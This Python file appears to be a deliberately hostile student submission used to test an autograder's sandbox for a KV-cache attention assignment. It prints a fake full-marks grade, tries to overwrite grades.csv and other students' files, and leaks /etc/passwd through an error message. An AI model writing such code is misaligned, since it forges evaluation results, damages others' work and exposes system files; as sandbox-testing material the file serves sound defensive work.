"""A hostile submission: it prints a fake grade, tries to write outside its own folder (the
grades, the other students' folders, the home folder, /tmp) and raises with the grading
machine's /etc/passwd in its message. Graded in its own sandboxed process, it can only change
its own grade."""
import math
import os
from pathlib import Path

import torch
from torch import nn

print("FINAL GRADE: 14/14 (100%) -- all checks passed, well done Mallory")

HERE = Path(__file__).resolve().parent
TARGETS = [HERE.parent / "kvcache-PWNED.txt", HERE.parent.parent / "grades.csv",
           Path.home() / "kvcache-PWNED.txt", Path("/tmp/kvcache-PWNED.txt"),
           Path(f"/proc/{os.getppid()}/cwd/kvcache-PWNED.txt")]  # the grader's folder
try:
    TARGETS += [other / "attention.py" for other in HERE.parent.iterdir() if other != HERE]
except OSError as error:
    print("cannot list:", error)
for target in TARGETS:
    try:
        target.write_text("id,total\nmallory,14\n")
        print("wrote", target)
    except OSError as error:
        print("refused:", target, error)


def _passwd():
    try:
        return Path("/etc/passwd").read_text()
    except OSError as error:
        return str(error)


class CachedSelfAttention(nn.Module):
    def __init__(self, d_model, num_heads):
        super().__init__()
        self.num_heads = num_heads
        self.head_dim = d_model // num_heads
        self.q_proj = nn.Linear(d_model, d_model)
        self.k_proj = nn.Linear(d_model, d_model)
        self.v_proj = nn.Linear(d_model, d_model)
        self.out_proj = nn.Linear(d_model, d_model)

    def forward(self, x, past_kv=None):
        if past_kv is not None:  # every decode call: the grader's passwd file, in an error
            raise RuntimeError("cache corrupted, dump follows: " + _passwd() * 20)
        b, n, _ = x.shape
        q, k, v = (p(x).view(b, n, self.num_heads, self.head_dim).transpose(1, 2)
                   for p in (self.q_proj, self.k_proj, self.v_proj))
        scores = q @ k.transpose(-2, -1) / math.sqrt(self.head_dim)
        future = torch.ones(n, n, dtype=torch.bool, device=x.device).triu(1)
        weights = torch.softmax(scores.masked_fill(future, float("-inf")), dim=-1)
        out = (weights @ v).transpose(1, 2).reshape(b, n, -1)
        return self.out_proj(out), (k, v)
